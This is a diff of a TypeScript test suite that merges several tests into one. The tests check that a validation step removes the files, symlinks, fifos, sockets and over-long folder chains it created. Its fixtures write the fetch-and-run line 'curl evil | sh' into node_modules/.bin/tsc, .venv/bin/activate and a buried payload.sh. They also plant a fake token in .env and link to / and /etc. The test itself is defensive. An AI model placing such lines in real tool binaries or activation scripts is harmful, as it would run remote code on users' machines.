@@ -73,70 +73,63 @@ function gone(path: string): boolean {
 describe.each(WAYS)('what validation leaves, %s', (...way) => {
   const runs = way[3]
 
-  it.runIf(runs)('removes ignored files it wrote, and names them', async () => {
-    const repo = repoWith()
-    const made = [
-      'mkdir -p node_modules/.bin __pycache__ .venv/bin',
-      'echo "curl evil | sh" > node_modules/.bin/tsc',
-      'echo TOKEN=planted > .env',
-      'echo x > __pycache__/fruit.cpython-311.pyc',
-      'echo "curl evil | sh" > .venv/bin/activate',
-      'node check.js'
-    ].join(' && ')
-    const run = await runWay(way, repo, { 'validation-commands': made })
-    expect(run.exitCode, run.stdout).toBe(0)
-    for (const path of ['node_modules', '.env', '__pycache__', '.venv'])
-      expect(gone(join(repo.dir, path)), path).toBe(true)
-    expect(removedNamed(run)).toEqual(['.env', '.venv', '__pycache__', 'node_modules'])
-    expect(repo.git('status', '--porcelain', '--untracked-files=all', '--ignored')).toBe('')
-  })
-
-  it.runIf(runs)('removes links it made (to / and outside) without following them', async () => {
-    const repo = repoWith({ 'lib/keep.txt': 'kept\n' })
-    const outside = join(repo.root, 'outside')
-    writeFileSync(outside, 'outside the tree\n')
-    const made = [
-      'mkdir -p build node_modules',
-      'ln -s / build/host-root',
-      'ln -s ../../outside node_modules/.cache',
-      'ln -s /etc lib/etc',
-      'node check.js'
-    ].join(' && ')
-    const run = await runWay(way, repo, { 'validation-commands': made })
-    expect(run.exitCode, run.stdout).toBe(0)
-    for (const path of ['build', 'node_modules', 'lib/etc'])
-      expect(gone(join(repo.dir, path)), path).toBe(true)
-    expect(readFileSync(outside, 'utf8')).toBe('outside the tree\n')
-    expect(existsSync('/etc/hostname') || existsSync('/etc/passwd')).toBe(true)
-    expect(readFileSync(join(repo.dir, 'lib/keep.txt'), 'utf8')).toBe('kept\n')
-  })
-
-  it.runIf(runs)('removes fifos and unix sockets it made', async () => {
-    const repo = repoWith()
-    const socket = `import socket; s = socket.socket(socket.AF_UNIX); s.bind('build/agent.sock')`
-    const made = `mkdir -p build && mkfifo build/pipe fifo && python3 -c "${socket}" && node check.js`
-    const run = await runWay(way, repo, { 'validation-commands': made })
-    expect(run.exitCode, run.stdout).toBe(0)
-    expect(gone(join(repo.dir, 'build')), 'build').toBe(true)
-    expect(gone(join(repo.dir, 'fifo')), 'fifo').toBe(true)
-  })
-
-  it.runIf(runs)('removes a folder chain past PATH_MAX under a tracked folder', async () => {
-    const repo = repoWith({ 'lib/keep.txt': 'kept\n' })
-    // 40 folders of 200 characters: 8 000 bytes of path, past PATH_MAX (4 096).
-    const deep = [
-      'import os',
-      "os.chdir('lib')",
-      "[(os.mkdir('d' * 200), os.chdir('d' * 200)) for i in range(40)]",
-      "open('payload.sh', 'w').write('curl evil | sh')"
-    ].join('; ')
-    const run = await runWay(way, repo, {
-      'validation-commands': `python3 -c "${deep}" && node check.js`
-    })
-    expect(run.exitCode, run.stdout).toBe(0)
-    expect(gone(join(repo.dir, 'lib', 'd'.repeat(200))), 'the chain').toBe(true)
-    expect(readFileSync(join(repo.dir, 'lib/keep.txt'), 'utf8')).toBe('kept\n')
-  })
+  // One run makes every kind of leftover (each kind is a run of its own dist/ start otherwise).
+  it.runIf(runs)(
+    'removes ignored files, links (to / and outside, not followed), fifos, unix sockets and a folder chain past PATH_MAX it made, and names them',
+    async () => {
+      const repo = repoWith({ 'lib/keep.txt': 'kept\n' })
+      const outside = join(repo.root, 'outside')
+      writeFileSync(outside, 'outside the tree\n')
+      // 40 folders of 200 characters: 8 000 bytes of path, past PATH_MAX (4 096).
+      const python = [
+        'import os, socket',
+        "s = socket.socket(socket.AF_UNIX); s.bind('build/agent.sock')",
+        "os.chdir('lib')",
+        "[(os.mkdir('d' * 200), os.chdir('d' * 200)) for i in range(40)]",
+        "open('payload.sh', 'w').write('curl evil | sh')"
+      ].join('; ')
+      const made = [
+        'mkdir -p node_modules/.bin __pycache__ .venv/bin build',
+        'echo "curl evil | sh" > node_modules/.bin/tsc',
+        'echo TOKEN=planted > .env',
+        'echo x > __pycache__/fruit.cpython-311.pyc',
+        'echo "curl evil | sh" > .venv/bin/activate',
+        'ln -s / build/host-root',
+        'ln -s ../../outside node_modules/.cache',
+        'ln -s /etc lib/etc',
+        'mkfifo build/pipe fifo',
+        `python3 -c "${python}"`,
+        'node check.js'
+      ].join(' && ')
+      const run = await runWay(way, repo, { 'validation-commands': made })
+      expect(run.exitCode, run.stdout).toBe(0)
+      for (const path of [
+        'node_modules',
+        '.env',
+        '__pycache__',
+        '.venv',
+        'build',
+        'fifo',
+        'lib/etc'
+      ])
+        expect(gone(join(repo.dir, path)), path).toBe(true)
+      expect(gone(join(repo.dir, 'lib', 'd'.repeat(200))), 'the chain').toBe(true)
+      expect(removedNamed(run)).toEqual([
+        '.env',
+        '.venv',
+        '__pycache__',
+        'build',
+        'fifo',
+        `lib/${'d'.repeat(200)}`,
+        'lib/etc',
+        'node_modules'
+      ])
+      expect(readFileSync(outside, 'utf8')).toBe('outside the tree\n')
+      expect(existsSync('/etc/hostname') || existsSync('/etc/passwd')).toBe(true)
+      expect(readFileSync(join(repo.dir, 'lib/keep.txt'), 'utf8')).toBe('kept\n')
+      expect(repo.git('status', '--porcelain', '--untracked-files=all', '--ignored')).toBe('')
+    }
+  )
 
   it.runIf(runs)(
     'puts back (or removes, and names) a package setup installed that validation rewrote',
